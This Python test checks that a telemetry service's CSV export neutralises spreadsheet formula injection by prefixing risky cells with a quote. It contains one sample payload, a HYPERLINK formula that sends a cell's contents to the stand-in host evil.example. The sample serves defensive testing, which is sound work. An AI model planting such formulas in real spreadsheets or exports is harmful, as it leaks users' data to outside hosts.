"""The telemetry CSV export is safe to open in a spreadsheet: text that would start a formula gets a leading quote,
numbers stay numbers. The message goes in through HTTP ingest and comes out through the export route."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime

from litestar import Litestar
from litestar.testing import AsyncTestClient
from sqlalchemy.ext.asyncio import AsyncEngine

from pulse.db import system_tx
from pulse.fleet.service import issue_credentials
from pulse.settings import Settings
from tests.conftest import make_device, make_tenant
from tests.web.conftest import bearer, token_for

FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"click")'


async def test_formula_like_text_cells_are_neutralised(client: AsyncTestClient[Litestar], engine: AsyncEngine,
                                                       settings: Settings) -> None:
    tenant = await make_tenant(engine)
    device = await make_device(engine, tenant)
    async with system_tx(engine) as conn:
        creds = await issue_credentials(conn, tenant.tenant_id, device, now=datetime.now(UTC))
    metrics = {"note": FORMULA, "=cmd": 1, "label": "-5", "at": "@SUM(A1)", "mode": "auto", "temp_c": -18.5,
               "ok": True}
    sent = await client.post(f"/ingest/v1/tenant/{tenant.tenant_id}/device/{device}/telemetry",
                             content=json.dumps({"seq": 1, "metrics": metrics}),
                             headers={"X-Provision-Token": creds.provision_token,
                                      "Content-Type": "application/json"})
    assert sent.status_code == 202, sent.text

    headers = bearer(await token_for(engine, settings, tenant_id=tenant.tenant_id, roles=["customer"]))
    response = await client.get(f"/api/v2/devices/{device}/telemetry/export.csv", headers=headers)

    assert response.status_code == 200, response.text
    lines = list(csv.reader(io.StringIO(response.text)))
    assert lines[0] == ["time", "seq", "msg_type", "metric", "value"]
    cells = {row[3]: row[4] for row in lines[1:]}
    assert cells == {
        "note": "'" + FORMULA,   # a string that a spreadsheet would run is shown as text
        "'=cmd": "1",            # so is a metric name
        "label": "'-5",          # a string that looks like a negative number stays a string
        "at": "'@SUM(A1)",
        "mode": "auto",
        "temp_c": "-18.5",       # numbers are written as they are
        "ok": "true",
    }
    assert all(row[2] == "telemetry" and row[1] == "1" for row in lines[1:])
